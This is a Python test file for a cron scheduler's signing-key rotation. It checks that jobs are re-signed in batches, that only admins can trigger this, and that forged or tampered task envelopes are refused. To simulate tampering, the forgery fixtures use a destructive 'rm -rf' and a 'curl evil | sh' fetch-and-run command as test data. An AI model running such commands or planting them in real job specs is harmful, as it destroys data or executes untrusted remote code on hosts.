"""The signing key changes without a gap: every task stays installed, and only what is rightly signed is signed anew."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from prometheus_client import CollectorRegistry

from cronkeeper.domain.ids import TaskId
from cronkeeper.domain.job import JobState
from cronkeeper.domain.placement import WorkerInfo
from cronkeeper.errors import SignatureError
from cronkeeper.ports import Role
from cronkeeper.runtime.metrics import ManagerMetrics, WorkerMetrics
from cronkeeper.testing.memory_coordinator import MemoryCoordinator
from cronkeeper.wire.task import Signer, Task, Verifier, signer_of
from cronkeeper_api.app import create_app
from cronkeeper_api.config import ApiConfig
from cronkeeper_api.services import assemble
from cronkeeper_manager.config import ManagerConfig
from cronkeeper_manager.leader import Leader
from cronkeeper_manager.mysql_watch import MysqlWatch
from cronkeeper_manager.reach import Reach
from cronkeeper_worker.agent import Agent, Node
from cronkeeper_worker.journal import Journal, TaskRow
from cronkeeper_worker.tasks import Here, Installed, install_sound
from tests.harness.api import SEED, World

OLD, NEW, EVIL = (Signer.from_seed(seed) for seed in (SEED, bytes(range(32)), bytes(range(50, 82))))


class Api:
    """Another API server of the same fleet, with its own signing key."""

    def __init__(self, world: World, signer: Signer, *trusted: Signer) -> None:
        self.world = world
        settings: dict[str, Any] = {"verify_keys": tuple(key.public_bytes.hex() for key in trusted)}
        self.services = assemble(
            ApiConfig(**settings),
            store=world.store,
            coordinator=world.coordinator,
            blobs=world.blobs,
            signer=signer,
            fleet=world.services.fleet,
            clock=world.clock,
        )
        self.client = create_app(self.services).test_client()

    def resign(self, role: Role = Role.ADMIN, **body: Any) -> Any:
        headers = {"Authorization": f"Bearer {self.world.tokens[role]}"}
        return self.client.post("/resign", json=body, headers=headers)


@pytest.fixture
def world() -> Iterator[World]:
    found = World()
    yield found
    found.close()


def keys_of(world: World) -> set[str]:
    ids = sorted(world.store.jobs.job_ids())
    return {signer_of(raw) for raw in world.store.jobs.envelopes(ids).values()}


def test_tasks_are_signed_anew_in_pieces_and_say_the_same(world: World) -> None:
    made = [world.post_job(name=f"job-{number}", shards=2) for number in range(7)]
    before = {job_id: world.store.jobs.get(job_id) for job_id in sorted(world.store.jobs.job_ids())}
    api = Api(world, NEW, OLD)
    after, answers = "0", []
    while after is not None:
        answers.append(api.resign(after=after, limit=3).get_json())
        after = answers[-1]["next"]
    assert [(a["signed"], a["current"], a["refused"], a["next"]) for a in answers] == [
        (3, 0, [], "3"),
        (3, 0, [], "6"),
        (1, 0, [], None),
    ]
    assert keys_of(world) == {NEW.key_id}
    for job_id, old in before.items():
        new = world.store.jobs.get(job_id)
        assert Verifier([NEW.public_bytes]).open(new.envelope, job_id=job_id) == Verifier([OLD.public_bytes]).open(
            old.envelope, job_id=job_id
        )
        assert json.loads(new.envelope)["body"] == json.loads(old.envelope)["body"]
        # Neither ETag nor history nor what people see has moved.
        assert (new.generation, new.updated_ms, new.spec) == (old.generation, old.updated_ms, old.spec)
    assert len(made) == 7
    again = api.resign().get_json()
    assert (again["signed"], again["current"], again["next"]) == (0, 7, None)


def test_the_trail_tells_of_it_once_for_each_piece(world: World) -> None:
    for _ in range(3):
        world.post_job()
    Api(world, NEW, OLD).resign()
    Api(world, NEW, OLD).resign()
    found = world.call("GET", "/audit?action=tasks.resigned", role=Role.ADMIN).get_json()
    assert [(one["object"], one["new"]) for one in found] == [
        (f"key/{NEW.key_id}", {"jobs": 3, "first": 1, "last": 3}),
    ]
    assert found[0]["actor"]["name"] == "the-admin"


def _altered(world: World, job_id: int) -> bytes:
    outer = json.loads(world.store.jobs.get(job_id).envelope)
    outer["body"] = outer["body"].replace("ls -la", "rm -rf")
    return json.dumps(outer).encode()


def _stranger(world: World, job_id: int) -> bytes:
    job = world.store.jobs.get(job_id)
    return EVIL.seal(Task(job.id, job.generation, JobState.ACTIVE, 0, job.spec))


def _renamed(world: World, job_id: int) -> bytes:
    """The attacker's task under the name of a trusted key."""
    outer = json.loads(_stranger(world, job_id))
    return json.dumps({**outer, "key": OLD.key_id}).encode()


def _said_to_be_new(world: World, job_id: int) -> bytes:
    """Altered, and under the name of the key that signs now: nobody would look at it again."""
    return json.dumps({**json.loads(_altered(world, job_id)), "key": NEW.key_id}).encode()


def _of_another_job(world: World, job_id: int) -> bytes:
    return world.store.jobs.get(job_id - 1).envelope


@pytest.mark.parametrize(
    "forge",
    [
        _altered,
        _stranger,
        _renamed,
        _said_to_be_new,
        _of_another_job,
        lambda *_: b"",
        lambda *_: b"{}",
        lambda *_: b"x" * 300_000,
    ],
    ids=["altered", "stranger", "renamed", "said to be new", "another job", "empty", "object", "huge"],
)
def test_what_is_not_rightly_signed_is_never_signed_and_named(
    forge: Callable[[World, int], bytes], world: World
) -> None:
    world.post_job()
    spoilt = int(world.post_job()["id"])
    world.post_job()
    forged = forge(world, spoilt)
    assert world.store.jobs.reseal({spoilt: (world.store.jobs.get(spoilt).envelope, forged)}) == 1
    done = Api(world, NEW, OLD).resign().get_json()
    assert (done["signed"], [one["job"] for one in done["refused"]]) == (2, [str(spoilt)])
    assert world.store.jobs.get(spoilt).envelope == forged


def test_a_row_that_says_something_else_is_not_what_gets_signed(world: World) -> None:
    """Whoever may write in the database has changed the spec beside the signed task."""
    from dataclasses import replace

    made = int(world.post_job()["id"])
    job = world.store.jobs.get(made)
    evil = replace(job, spec=replace(job.spec, executable="curl evil | sh"))
    world.store.jobs.replace(evil, expected_generation=job.generation)
    Api(world, NEW, OLD).resign()
    task = Verifier([NEW.public_bytes]).open(world.store.jobs.get(made).envelope, job_id=made)
    assert task.spec.executable == "ls -la"


def test_a_key_that_is_not_trusted_any_more_opens_nothing(world: World) -> None:
    world.post_job()
    done = Api(world, NEW).resign().get_json()
    assert (done["signed"], len(done["refused"])) == (0, 1)
    assert "unknown key" in done["refused"][0]["why"]
    assert keys_of(world) == {OLD.key_id}


def test_an_edit_in_between_wins(world: World) -> None:
    made = world.post_job()
    api = Api(world, NEW, OLD)
    real = world.store.jobs.envelopes

    def envelopes(job_ids: Sequence[int]) -> dict[int, bytes]:
        found = real(job_ids)
        world.call("PATCH", f"/jobs/{made['id']}", json={"description": "edited"})
        return found

    api.services.resigning._jobs = type("Slow", (), {"envelopes": staticmethod(envelopes)})()
    slow: Any = api.services.resigning._jobs
    slow.job_ids, slow.reseal = world.store.jobs.job_ids, world.store.jobs.reseal
    assert api.resign().get_json()["signed"] == 0
    assert world.store.jobs.get(int(made["id"])).spec.description == "edited"
    assert Api(world, NEW, OLD).resign().get_json()["signed"] == 1


@pytest.mark.parametrize("role", [Role.VIEWER, Role.OPERATOR])
def test_it_takes_an_admin(role: Role, world: World) -> None:
    world.post_job()
    assert Api(world, NEW, OLD).resign(role).status_code == 403
    assert keys_of(world) == {OLD.key_id}


@pytest.mark.parametrize(
    "body", [{"limit": 0}, {"limit": 1001}, {"after": "-1"}, {"after": "x"}, {"after": 1}, {"all": 1}]
)
def test_a_bad_question_signs_nothing(body: dict[str, Any], world: World) -> None:
    world.post_job()
    assert Api(world, NEW, OLD).resign(**body).status_code == 422
    assert keys_of(world) == {OLD.key_id}


def test_only_a_rightly_signed_envelope_is_sealed_anew(world: World) -> None:
    made = int(world.post_job()["id"])
    raw = world.store.jobs.get(made).envelope
    with pytest.raises(SignatureError):
        NEW.reseal(raw, job_id=made, verifier=Verifier([NEW.public_bytes]))
    with pytest.raises(SignatureError):
        NEW.reseal(raw, job_id=made + 1, verifier=Verifier([OLD.public_bytes]))


# ------------------------------------------------------------------------------------------------- the whole rotation


class Worker:
    """A node's agent with its journal; it may be restarted with other keys."""

    def __init__(self, world: World, folder: Path, *trusted: Signer) -> None:
        self.world = world
        self.journal = Journal(folder / "journal.db")
        self.coordinator = MemoryCoordinator(world.ensemble, "w1", clock=world.clock)
        self.coordinator.start(1.0)
        self.restart(*trusted)

    def restart(self, *trusted: Signer) -> None:
        """Start anew from the journal alone, as after `on_stop = stay`."""
        verifier = Verifier([key.public_bytes for key in trusted])
        here = Here("w1", self.world.clock.now_ms())
        self.installed = {item.id: item for item in install_sound(self.journal.tasks(), verifier, here)}
        node = Node(self._apply, self._have, lambda *_: None, lambda *_: None, lambda *_: None, lambda *_: None)
        info = WorkerInfo("w1", "host", epoch="e1")
        metrics = WorkerMetrics(CollectorRegistry())
        now_ms = self.world.clock.now_ms()
        self.agent = Agent(
            info,
            self.coordinator,
            self.world.store,
            self.journal,
            verifier,
            node,
            self.world.clock,
            metrics,
            started_ms=now_ms,
        )

    def _apply(self, given: Sequence[tuple[TaskRow, Installed]], dropped: Sequence[TaskId]) -> None:
        self.journal.save_tasks([row for row, _ in given], dropped)
        for task in dropped:
            del self.installed[task]
        self.installed |= {item.id: item for _, item in given}

    def _have(self) -> Mapping[TaskId, Installed]:
        return dict(self.installed)


class Fleet:
    """An API server, a leader and a worker over one pair of stores."""

    def __init__(self, folder: Path) -> None:
        self.world = World()
        self.worker = Worker(self.world, folder, OLD)
        coordinator = MemoryCoordinator(self.world.ensemble, "m1", clock=self.world.clock)
        coordinator.start(1.0)
        settings: dict[str, Any] = {"manager_id": "m1"}
        self.leader = Leader(
            ManagerConfig(**settings),
            self.world.store,
            coordinator,
            self.world.clock,
            ManagerMetrics(CollectorRegistry()),
            mysql=MysqlWatch(self.world.store, self.world.clock, background=False),
            reach=Reach(self.world.store, self.world.clock, background=False),
        )
        coordinator.on_change(self.leader.observer.note_change)

    def go_on(self, seconds: int) -> None:
        """Time passes: leader and worker take their turns. No task may ever leave the node."""
        before = set(self.worker.installed)
        for _ in range(seconds):
            self.world.clock.advance_ms(1000)
            info = self.worker.agent.info
            self.world.store.leases.beat(info, local_ms=self.world.clock.now_ms())
            self.leader.step()
            self.worker.agent.step()
            assert before <= set(self.worker.installed)


def test_the_signing_key_is_changed_while_the_fleet_goes_on(tmp_path: Path) -> None:
    fleet = Fleet(tmp_path)
    world, worker = fleet.world, fleet.worker
    for number in range(5):
        world.post_job(name=f"job-{number}", schedule="* * * * *", shards=2)
    fleet.go_on(10)
    tasks = set(worker.installed)
    assert len(tasks) == 10
    due = {task: item.view.cursor_ms for task, item in worker.installed.items()}

    # Workers first: they take both.
    worker.restart(OLD, NEW)
    assert set(worker.installed) == tasks
    fleet.go_on(3)
    # Then an API server; another still signs with the old key.
    api = Api(world, NEW, OLD)
    world.post_job(name="by-the-old-one")
    fleet.go_on(5)
    assert len(worker.installed) == 11
    assert api.resign(limit=4).get_json()["signed"] == 4
    # It stopped half-way, and is begun anew.
    assert api.resign().get_json()["signed"] == 2
    fleet.go_on(90)
    assert {item.key for item in worker.installed.values()} == {NEW.key_id}
    # Nothing has moved: what was looked at stays looked at, and nothing is looked at twice.
    assert {task: worker.installed[task].view.cursor_ms for task in due} == due
    assert {item.generation for item in worker.installed.values()} == {1}
    # Last, the old key is taken away: what the journal holds is enough, with ZooKeeper away, too.
    worker.restart(NEW)
    assert len(worker.installed) == 11
    fleet.go_on(3)
    assert len(worker.installed) == 11
    # What the old key signs now is refused.
    made = world.post_job(name="too-late")
    fleet.go_on(10)
    assert TaskId(int(made["id"]), 0) not in worker.installed
    world.close()
